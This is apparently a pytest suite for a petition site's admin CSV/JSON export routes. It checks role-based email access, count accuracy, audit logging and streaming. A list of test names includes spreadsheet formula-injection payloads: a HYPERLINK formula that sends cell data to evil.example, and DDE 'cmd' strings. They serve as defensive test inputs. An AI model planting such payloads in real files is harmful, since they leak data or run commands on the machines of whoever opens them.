"""Exports through the pages and downloads an organiser or admin uses, from the outside."""

from __future__ import annotations

import csv
import io
import json
import threading
from collections import Counter
from datetime import UTC, datetime
from types import SimpleNamespace

import pytest
from sqlalchemy import create_engine, func, select

from tests.factories import PetitionFactory, SignatureFactory, UserFactory
from webapp.models import AuditEvent, Signature, SignatureStatus, User

CONFIRMED = SignatureStatus.CONFIRMED
PENDING = SignatureStatus.PENDING
INVALIDATED = SignatureStatus.INVALIDATED

# Cells a spreadsheet would run as a formula start with one of these (OWASP).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_NAMES = [
    "Smith, John",
    'Ana "La Jefa" Pérez',
    "Line one\nline two",
    "Windows\r\nline break",
    "مريم",
    'مريم الحرة, "مريم"',
    "\u202eevil.exe",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'quoted already",
    " =leading space",
    "Zoë 😀 Ng",
]


def _user(db, **traits) -> User:
    user = UserFactory(**traits)
    db.session.commit()
    return user


def _at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def _sign(petition, when: str | None, *, status=CONFIRMED, **fields) -> Signature:
    return SignatureFactory(
        petition=petition,
        status=status,
        confirmed_at=_at(when) if when else None,
        **fields,
    )


def _download(client, url: str, **query):
    response = client.get(url, query_string=query)
    return response, response.get_data()


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the byte order mark, for Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _events(db, action: str | None = None) -> list[AuditEvent]:
    query = select(AuditEvent).order_by(AuditEvent.id)
    if action:
        query = query.where(AuditEvent.action == action)
    return list(db.session.scalars(query))


@pytest.fixture
def petition(db):
    petition = PetitionFactory(title="Free Leyla Ahmadi")
    db.session.commit()
    return petition


def _export_urls(app, petition_id: int) -> list[str]:
    """Every download route of the blueprint, each kind and format filled in."""
    urls = []
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("admin.exports.") or rule.endpoint == "admin.exports.index":
            continue
        values = {"petition_id": petition_id} if "petition_id" in rule.arguments else {}
        kinds = ("daily", "countries") if "kind" in rule.arguments else (None,)
        formats = ("csv", "json") if "fmt" in rule.arguments else (None,)
        for kind in kinds:
            for fmt in formats:
                args = {
                    **values,
                    **({"kind": kind} if kind else {}),
                    **({"fmt": fmt} if fmt else {}),
                }
                urls.append(rule.build(args, append_unknown=False)[1])
    return sorted(urls)


def test_the_routes_under_test_are_every_export(app, petition):
    urls = _export_urls(app, petition.id)
    p = f"/admin/exports/petitions/{petition.id}"
    assert urls == sorted(
        [
            "/admin/exports/counts/daily.csv",
            "/admin/exports/counts/daily.json",
            "/admin/exports/counts/countries.csv",
            "/admin/exports/counts/countries.json",
            f"{p}/counts/daily.csv",
            f"{p}/counts/daily.json",
            f"{p}/counts/countries.csv",
            f"{p}/counts/countries.json",
            f"{p}/signatures.csv",
        ]
    )


# Who may export: every route under /admin, each role, is walked in tests/admin/test_access.py.


def test_the_page_lists_every_petition_with_its_downloads(client, db, login, petition):
    other = PetitionFactory(title="Stop the execution")
    _sign(petition, "2026-03-01T10:00:00")
    db.session.commit()
    login(client, _user(db, organiser=True))

    page = client.get("/admin/exports/").get_data(as_text=True)

    assert "<h1>Exports</h1>" in page
    for p in (petition, other):
        assert p.title in page
        assert f'href="/admin/exports/petitions/{p.id}/counts/daily.csv"' in page
        assert f'href="/admin/exports/petitions/{p.id}/counts/countries.json"' in page
        assert f'href="/admin/exports/petitions/{p.id}/signatures.csv"' in page
    assert 'href="/admin/exports/counts/daily.json"' in page
    assert "with_email" not in page  # organisers are not offered emails


def test_admins_are_offered_emails_with_a_labelled_checkbox(client, db, login, petition):
    login(client, _user(db, admin=True))

    page = client.get("/admin/exports/").get_data(as_text=True)

    assert f'action="/admin/exports/petitions/{petition.id}/signatures.csv"' in page
    assert (
        f'<input type="checkbox" id="with-email-{petition.id}" name="with_email" value="1">' in page
    )
    assert f'<label for="with-email-{petition.id}">' in page


# Emails -------------------------------------------------------------------------------


@pytest.fixture
def signers(db, petition):
    """Two confirmed signers (one opted in), one pending and one invalidated who opted in."""
    _sign(
        petition, "2026-03-01T10:00:00", full_name="Opted In", email="yes@example.org", opt_in=True
    )
    _sign(petition, "2026-03-01T11:00:00", full_name="Not Opted", email="no@example.org")
    _sign(
        petition,
        None,
        status=PENDING,
        full_name="Pending",
        email="pending@example.org",
        opt_in=True,
    )
    _sign(
        petition,
        "2026-03-01T12:00:00",
        status=INVALIDATED,
        full_name="Invalid",
        email="invalid@example.org",
        opt_in=True,
    )
    db.session.commit()


@pytest.mark.parametrize("query", [{}, {"with_email": "0"}])
def test_organisers_get_names_and_countries_only(client, db, login, petition, signers, query):
    login(client, _user(db, organiser=True))

    response, body = _download(
        client, f"/admin/exports/petitions/{petition.id}/signatures.csv", **query
    )

    assert response.status_code == 200
    assert _csv(body) == [
        ["name", "country", "confirmed_at"],
        ["Opted In", "GB", "2026-03-01T10:00:00+00:00"],
        ["Not Opted", "GB", "2026-03-01T11:00:00+00:00"],
    ]
    assert b"@example.org" not in body


def test_organisers_asking_for_emails_are_refused(client, db, login, petition, signers):
    login(client, _user(db, organiser=True))

    response = client.get(f"/admin/exports/petitions/{petition.id}/signatures.csv?with_email=1")

    assert response.status_code == 403
    assert b"@example.org" not in response.get_data()
    assert _events(db) == []


def test_admins_get_emails_only_of_signers_who_opted_in(client, db, login, petition, signers):
    admin = _user(db, admin=True)
    login(client, admin)

    response, body = _download(
        client, f"/admin/exports/petitions/{petition.id}/signatures.csv", with_email="1"
    )

    assert response.status_code == 200
    assert _csv(body) == [
        ["name", "country", "confirmed_at", "email"],
        ["Opted In", "GB", "2026-03-01T10:00:00+00:00", "yes@example.org"],
        ["Not Opted", "GB", "2026-03-01T11:00:00+00:00", ""],
    ]
    for hidden in (b"no@example.org", b"pending@", b"invalid@"):
        assert hidden not in body


def test_admins_get_no_emails_unless_they_ask(client, db, login, petition, signers):
    login(client, _user(db, admin=True))

    _, body = _download(client, f"/admin/exports/petitions/{petition.id}/signatures.csv")

    assert _csv(body)[0] == ["name", "country", "confirmed_at"]
    assert b"@example.org" not in body


@pytest.mark.parametrize("value", ["yes", "true", "2", ""])
def test_an_unexpected_email_choice_is_a_bad_request(client, db, login, petition, value):
    login(client, _user(db, admin=True))

    response = client.get(
        f"/admin/exports/petitions/{petition.id}/signatures.csv", query_string={"with_email": value}
    )

    assert response.status_code == 400
    assert _events(db) == []


# Exactness ----------------------------------------------------------------------------


@pytest.fixture
def spread(db):
    """Two petitions' signatures over days and countries, with pending and invalidated
    ones that must not count, and a pair either side of midnight UTC."""
    first, second = PetitionFactory(), PetitionFactory()
    for when, country in [
        ("2026-03-01T00:00:00", "GB"),
        ("2026-03-01T09:30:00", "GB"),
        ("2026-03-01T23:59:59", "IR"),
        ("2026-03-02T00:00:00", "IR"),
        ("2026-03-02T13:00:00", "MX"),
        ("2026-03-05T08:00:00", "GB"),
    ]:
        _sign(first, when, country=country)
    _sign(second, "2026-03-02T10:00:00", country="FR")
    _sign(second, "2026-03-02T11:00:00", country="FR")
    _sign(first, None, status=PENDING, country="GB")
    _sign(second, None, status=PENDING, country="US")
    _sign(first, "2026-03-01T10:00:00", status=INVALIDATED, country="GB")
    _sign(second, "2026-03-04T10:00:00", status=INVALIDATED, country="DE")
    db.session.commit()
    return first, second


def _confirmed(db) -> list[Signature]:
    return list(db.session.scalars(select(Signature).where(Signature.status == CONFIRMED)))


def _expected_daily(db, petition_id=None) -> list[list]:
    counts = Counter(
        (s.petition_id, s.petition.slug, s.confirmed_at.date().isoformat())
        for s in _confirmed(db)
        if petition_id in (None, s.petition_id)
    )
    return [[*key, n] for key, n in sorted(counts.items())]


def _expected_countries(db, petition_id=None) -> list[list]:
    """A direct GROUP BY over the confirmed signatures."""
    query = (
        select(Signature.petition_id, Signature.country, func.count())
        .where(Signature.status == CONFIRMED)
        .group_by(Signature.petition_id, Signature.country)
        .order_by(Signature.petition_id, Signature.country)
    )
    if petition_id is not None:
        query = query.where(Signature.petition_id == petition_id)
    slugs = {s.petition_id: s.petition.slug for s in _confirmed(db)}
    return [[pid, slugs[pid], country, n] for pid, country, n in db.session.execute(query)]


def _as_rows(response, body: bytes, fmt: str) -> list[list]:
    """Rows of a CSV or JSON counts export, numbers as numbers."""
    if fmt == "json":
        assert response.content_type == "application/json"
        return [list(item.values()) for item in json.loads(body)]
    assert response.content_type == "text/csv; charset=utf-8; header=present"
    return [[int(a), b, c, int(d)] for a, b, c, d in _csv(body)[1:]]


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("scope", ["all", "first", "second"])
def test_counts_per_day_match_the_confirmed_signatures(client, db, login, spread, fmt, scope):
    login(client, _user(db, organiser=True))
    petition_id = {"all": None, "first": spread[0].id, "second": spread[1].id}[scope]
    prefix = "" if petition_id is None else f"/petitions/{petition_id}"

    response, body = _download(client, f"/admin/exports{prefix}/counts/daily.{fmt}")

    rows = _as_rows(response, body, fmt)
    assert rows == _expected_daily(db, petition_id)
    if scope == "first":
        assert [row[2:] for row in rows] == [
            ["2026-03-01", 3],  # midnight to 23:59:59 UTC; not the invalidated one
            ["2026-03-02", 2],
            ["2026-03-05", 1],
        ]


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("scope", ["all", "first", "second"])
def test_counts_per_country_match_a_group_by(client, db, login, spread, fmt, scope):
    login(client, _user(db, organiser=True))
    petition_id = {"all": None, "first": spread[0].id, "second": spread[1].id}[scope]
    prefix = "" if petition_id is None else f"/petitions/{petition_id}"

    response, body = _download(client, f"/admin/exports{prefix}/counts/countries.{fmt}")

    rows = _as_rows(response, body, fmt)
    assert rows == _expected_countries(db, petition_id)
    if scope == "second":
        assert [row[2:] for row in rows] == [["FR", 2]]  # not the pending US, invalidated DE


def test_json_counts_are_objects_named_by_field(client, db, login, spread):
    login(client, _user(db, organiser=True))

    _, body = _download(client, f"/admin/exports/petitions/{spread[1].id}/counts/daily.json")

    assert json.loads(body) == [
        {
            "petition_id": spread[1].id,
            "petition_slug": spread[1].slug,
            "day": "2026-03-02",
            "signatures": 2,
        }
    ]


def test_counts_include_a_signature_the_roll_up_has_not_seen_yet(client, db, login, petition):
    """The exports read the rows, not the roll-up (which lags by seconds)."""
    _sign(petition, "2026-03-01T10:00:00", country="GB")
    db.session.commit()
    login(client, _user(db, organiser=True))

    _, body = _download(client, f"/admin/exports/petitions/{petition.id}/counts/countries.json")

    assert json.loads(body) == [
        {
            "petition_id": petition.id,
            "petition_slug": petition.slug,
            "country": "GB",
            "signatures": 1,
        }
    ]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_petition_without_signatures_exports_just_the_header(client, db, login, petition, fmt):
    login(client, _user(db, organiser=True))

    response, body = _download(client, f"/admin/exports/petitions/{petition.id}/counts/daily.{fmt}")

    assert response.status_code == 200
    if fmt == "json":
        assert json.loads(body) == []
    else:
        assert _csv(body) == [["petition_id", "petition_slug", "day", "signatures"]]


def test_signatures_match_the_database_in_order(client, db, login, spread):
    login(client, _user(db, admin=True))
    first = spread[0]

    _, body = _download(
        client, f"/admin/exports/petitions/{first.id}/signatures.csv", with_email="1"
    )

    expected = [
        [s.full_name, s.country, s.confirmed_at.isoformat(timespec="seconds"), ""]
        for s in sorted(_confirmed(db), key=lambda s: s.id)
        if s.petition_id == first.id
    ]
    assert _csv(body)[1:] == expected
    assert len(expected) == 6


# Hostile names -------------------------------------------------------------------------


def test_hostile_names_read_back_identically_and_never_as_formulas(client, db, login, petition):
    for n, name in enumerate(HOSTILE_NAMES):
        _sign(
            petition,
            f"2026-03-01T10:{n:02d}:00",
            full_name=name,
            email=f"=cmd{n}@example.org" if n % 2 else f"ok{n}@example.org",
            opt_in=True,
        )
    db.session.commit()
    login(client, _user(db, admin=True))

    response, body = _download(
        client, f"/admin/exports/petitions/{petition.id}/signatures.csv", with_email="1"
    )

    assert response.status_code == 200
    rows = _csv(body)
    assert rows[0] == ["name", "country", "confirmed_at", "email"]
    assert len(rows) == len(HOSTILE_NAMES) + 1
    for name, row in zip(HOSTILE_NAMES, rows[1:], strict=True):
        if name.startswith(TRIGGERS):
            assert row[0] == "'" + name  # the one apostrophe a spreadsheet shows as text
        else:
            assert row[0] == name  # byte for byte: commas, quotes, newlines, RTL
    for n, row in enumerate(rows[1:]):
        email = f"=cmd{n}@example.org" if n % 2 else f"ok{n}@example.org"
        assert row[3] == ("'" + email if n % 2 else email)
    assert not [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


# Every export is recorded -----------------------------------------------------------------


def test_every_export_adds_one_audit_event(app, client, db, login, petition):
    admin = _user(db, admin=True)
    login(client, admin)
    urls = _export_urls(app, petition.id)

    for url in urls:
        before = len(_events(db))
        response, _ = _download(client, url)
        assert response.status_code == 200
        assert len(_events(db)) == before + 1, url

    events = _events(db)
    assert all(event.actor_id == admin.id and event.actor_email == admin.email for event in events)
    assert Counter(event.action for event in events) == {
        "export.daily_counts": 4,
        "export.country_counts": 4,
        "export.signatures": 1,
    }
    counted = Counter(
        (e.details["petition_id"], e.details["format"])
        for e in events
        if e.action != "export.signatures"
    )
    assert counted == {
        (None, "csv"): 2,
        (None, "json"): 2,
        (petition.id, "csv"): 2,
        (petition.id, "json"): 2,
    }


def test_the_signatures_event_says_whether_emails_went_out(client, db, login, petition):
    admin = _user(db, admin=True)
    login(client, admin)

    _download(client, f"/admin/exports/petitions/{petition.id}/signatures.csv", with_email="1")
    _download(client, f"/admin/exports/petitions/{petition.id}/signatures.csv")

    with_email, without = _events(db, "export.signatures")
    assert with_email.details == {"petition_id": petition.id, "format": "csv", "with_email": True}
    assert without.details == {"petition_id": petition.id, "format": "csv", "with_email": False}
    assert (with_email.subject_type, with_email.subject_id) == ("Petition", str(petition.id))
    assert "with the emails" in with_email.summary and petition.title in with_email.summary


# Responses -----------------------------------------------------------------------------


def test_exports_stream_as_attachments_never_cached(client, db, login, petition):
    login(client, _user(db, organiser=True))

    response = client.get(f"/admin/exports/petitions/{petition.id}/signatures.csv")

    assert response.is_streamed  # a generator, before anything reads it
    response.get_data()
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=signatures-")
    assert petition.slug in disposition and disposition.endswith(".csv")


def test_a_large_export_arrives_in_many_small_chunks(client, db, login, petition):
    for n in range(2500):
        _sign(petition, "2026-03-01T10:00:00", full_name=f"Signer number {n}")
    db.session.commit()
    login(client, _user(db, organiser=True))

    response = client.get(f"/admin/exports/petitions/{petition.id}/signatures.csv")
    chunks = list(response.response)

    assert response.is_streamed
    assert len(chunks) == 3  # 1,000 rows a chunk
    assert max(len(chunk) for chunk in chunks) < 64 * 1024
    assert len(_csv(b"".join(chunks))) == 2501


def test_an_export_streams_after_flask_tears_the_request_down(app, committed_db, login):
    """As under a real server: no outer app context, so Flask removes the request's
    session when the view returns, before the body is sent."""
    petition = PetitionFactory()
    _sign(petition, "2026-03-01T10:00:00", full_name="Ada", email="ada@example.org", opt_in=True)
    admin = UserFactory(admin=True)
    committed_db.session.commit()
    url = f"/admin/exports/petitions/{petition.id}/signatures.csv?with_email=1"
    who = SimpleNamespace(email=admin.email)
    committed_db.session.close()  # on SQLite, an open transaction would lock the thread out
    outcome = {}

    def download():  # a thread starts with no application context
        try:
            client = app.test_client()
            login(client, who)
            response = client.get(url)
            outcome["response"] = (response.status_code, response.get_data())
        except Exception as error:  # noqa: BLE001 - reported below
            outcome["error"] = error

    thread = threading.Thread(target=download)
    thread.start()
    thread.join(timeout=60)

    assert "error" not in outcome, outcome.get("error")
    status, body = outcome["response"]
    assert status == 200
    assert _csv(body)[1:] == [["Ada", "GB", "2026-03-01T10:00:00+00:00", "ada@example.org"]]
    assert [e.action for e in _events(committed_db)] == ["export.signatures"]


@pytest.mark.parametrize(
    ("path", "row"),
    [
        ("/petitions/{id}/signatures.csv?with_email=1", b'"Ada","GB"'),
        ("/counts/daily.csv", b'"2026-03-01","1"'),
        ("/counts/countries.json", b'"country": "GB", "signatures": 1'),
    ],
)
def test_the_audit_event_is_committed_before_the_first_byte(
    app, committed_db, login, database_uri, path, row
):
    """The request's commit runs when the view returns the streaming response: another
    connection sees the event before the body is read, and the body still streams."""
    petition = PetitionFactory()
    _sign(petition, "2026-03-01T10:00:00", full_name="Ada", email="ada@example.org", opt_in=True)
    admin = UserFactory(admin=True)
    committed_db.session.commit()
    browser = app.test_client()
    login(browser, admin)

    response = browser.get("/admin/exports" + path.format(id=petition.id), buffered=False)
    assert response.status_code == 200 and response.is_streamed

    engine = create_engine(database_uri.replace("postgresql://", "postgresql+psycopg://", 1))
    try:
        with engine.connect() as connection:
            actions = connection.execute(select(AuditEvent.action)).scalars().all()
    finally:
        engine.dispose()
    assert len(actions) == 1 and actions[0].startswith("export.")
    body = b"".join(response.response)
    response.close()
    assert row in body


@pytest.mark.parametrize(
    "path",
    [
        "/petitions/{missing}/signatures.csv",
        "/petitions/{missing}/counts/daily.csv",
        "/petitions/{missing}/counts/countries.json",
        "/petitions/{id}/signatures.json",
        "/petitions/{id}/signatures.xlsx",
        "/petitions/{id}/counts/daily.xlsx",
        "/petitions/{id}/counts/hourly.csv",
        "/counts/countries.xml",
        "/petitions/not-a-number/signatures.csv",
    ],
)
def test_an_unknown_petition_or_format_is_not_found(client, db, login, petition, path):
    login(client, _user(db, admin=True))

    response = client.get("/admin/exports" + path.format(id=petition.id, missing=petition.id + 999))

    assert response.status_code == 404
    assert _events(db) == []
